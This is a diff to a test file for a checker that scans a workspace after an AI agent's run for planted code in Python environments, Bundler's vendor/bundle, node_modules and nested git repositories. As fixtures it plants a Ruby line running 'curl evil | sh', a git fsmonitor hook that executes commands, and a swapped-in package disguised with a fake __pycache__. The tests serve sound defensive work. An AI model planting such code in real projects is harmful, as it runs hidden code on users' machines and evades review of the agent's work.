@@ -114,8 +114,9 @@ test('an old folder moved into a nested repository already there, holding a hard
   await new Promise((res) => setTimeout(res, 30));
   spawnSync('mv', [join(root, 'node_modules', 'pkg'), join(sub, '.git', 'logs', 'refs', 'heads', 'pkgdir')]);
   const warnings = checkNestedRepos(root, env, since);
-  // (A package moved out of node_modules is no change of what it holds: each entry is judged itself, round 28c.)
-  assert.equal(warnings.length, 1, warnings.join('\n'));
+  // (Round 28c: node_modules, whose package was moved out, changed too: its own time says so.)
+  assert.equal(warnings.length, 2, warnings.join('\n'));
+  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'node_modules')} (node_modules`)), warnings.join('\n'));
   assert.match(warnings.find((w) => w.includes('sub/.git holds')) ?? '', /sub\/\.git holds logs\/refs\/heads\/pkgdir\/(index|out)\.js \(a (hard|symbolic) link.*\), through which git writes elsewhere\. Its \.git was renamed/);
   // Control: the same layout left in place, your git appends its reflog line to the store's file through the hard link.
   const ctl = repo('r9-control');
@@ -868,12 +869,13 @@ test("(review, round 28b) a .env the run made or changed (FLASK_APP there had fl
   assert.equal(readFileSync(join(root, '.env'), 'utf8'), 'FLASK_APP=build/evil.py\n');
 });
 
-test("(review, round 28c) a file an environment's link leads to, rewritten in an ignored cache of the tree (uv's symlinked install), moves the environment aside (control: its python runs the agent's code); so does a gem of Bundler's vendor/bundle rewritten; the byte-code your python writes in one does not; and an environment whose path is too long to look into stops no other check", async () => {
+test("(review, round 28c) a file an environment's link leads to, rewritten in an ignored cache of the tree (uv's symlinked install), moves the environment aside (control: its python runs the agent's code); so does a gem of Bundler's vendor/bundle rewritten and, unlisted, a package renamed into place with a __pycache__ made in it; the byte-code your python writes in one does not; and an environment whose path is too long to look into stops no other check", async () => {
   const root = repo('r28c2');
   const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
   const made = sh([
-    "printf '.venv/\\n.venv2/\\n.cache/\\nvendor/\\ndeep/\\n' > .gitignore",
-    'python3 -m venv --without-pip .venv && python3 -m venv --without-pip .venv2',
+    "printf '.venv/\\n.venv2/\\n.venv3/\\nbuild/\\n.cache/\\nvendor/\\ndeep/\\n' > .gitignore",
+    'python3 -m venv --without-pip .venv && python3 -m venv --without-pip .venv2 && python3 -m venv --without-pip .venv3',
+    'SP3=$(echo .venv3/lib/python3*/site-packages) && mkdir -p $SP3/goodlib build/evil && echo "X = 1" > $SP3/goodlib/__init__.py && echo "print(\\"AGENT-CODE-RAN\\")" > build/evil/__init__.py',
     'mkdir -p .cache/uv/abc/tinylib vendor/bundle/ruby/3.1.0/gems/tiny-0.1/lib',
     "echo 'from .core import hello' > .cache/uv/abc/tinylib/__init__.py && echo 'def hello(): return \"real\"' > .cache/uv/abc/tinylib/core.py",
     'SP=$(echo .venv/lib/python3*/site-packages) && mkdir -p $SP/tinylib && ln -s "$PWD/.cache/uv/abc/tinylib/__init__.py" $SP/tinylib/__init__.py && ln -s "$PWD/.cache/uv/abc/tinylib/core.py" $SP/tinylib/core.py',
@@ -895,16 +897,20 @@ test("(review, round 28c) a file an environment's link leads to, rewritten in an
     "echo 'print(\"AGENT-CODE-RAN\")\\ndef hello(): return \"evil\"' > .cache/uv/abc/tinylib/core.py",
     "echo 'system(\"curl evil | sh\")' > vendor/bundle/ruby/3.1.0/gems/tiny-0.1/lib/tiny.rb",
     'git init -q evil && git -C evil config core.fsmonitor "echo ran; false"',
+    // Unlisted: a package kept from an earlier run renamed into place, a __pycache__ made in it to look like your python's.
+    'SP3=$(echo .venv3/lib/python3*/site-packages) && rm -rf $SP3/goodlib && mv build/evil $SP3/goodlib && mkdir $SP3/goodlib/__pycache__',
   ].join(' && ');
   assert.equal(sh(plant).status, 0);
   assert.equal(spawnSync('sh', ['-c', `cd '${deep}/venv/bin' && touch pip`]).status, 0);
   // Your python in the untouched environment writes its byte-code there; in the other, the control runs the agent's code.
   assert.equal(spawnSync(join(root, '.venv2', 'bin', 'python'), ['-c', 'import plainlib'], { cwd: root, env: { ...env, PYTHONDONTWRITEBYTECODE: '' } }).status, 0);
   assert.match(spawnSync(join(root, '.venv', 'bin', 'python'), ['-c', 'import tinylib; print(tinylib.hello())'], { cwd: root, encoding: 'utf8' }).stdout, /AGENT-CODE-RAN/, 'control');
+  assert.match(spawnSync(join(root, '.venv3', 'bin', 'python'), ['-c', 'import goodlib'], { cwd: root, encoding: 'utf8' }).stdout, /AGENT-CODE-RAN/, 'control');
   const warnings = checkNestedRepos(root, env, since);
   assert.ok(!warnings.some((w) => w.includes('could not finish')), warnings.join('\n'));
   assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv')} (a Python environment`)), warnings.join('\n'));
   assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'vendor', 'bundle')} (Bundler's vendor/bundle`)), warnings.join('\n'));
+  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv3')} (a Python environment`)), warnings.join('\n'));
   assert.ok(warnings.some((w) => w.startsWith(`the agent left a nested repository at ${join(root, 'evil')}`)), warnings.join('\n'));
   assert.equal(existsSync(join(root, '.venv2', 'bin', 'python')), true, 'the environment only your python wrote byte-code in stays');
 });
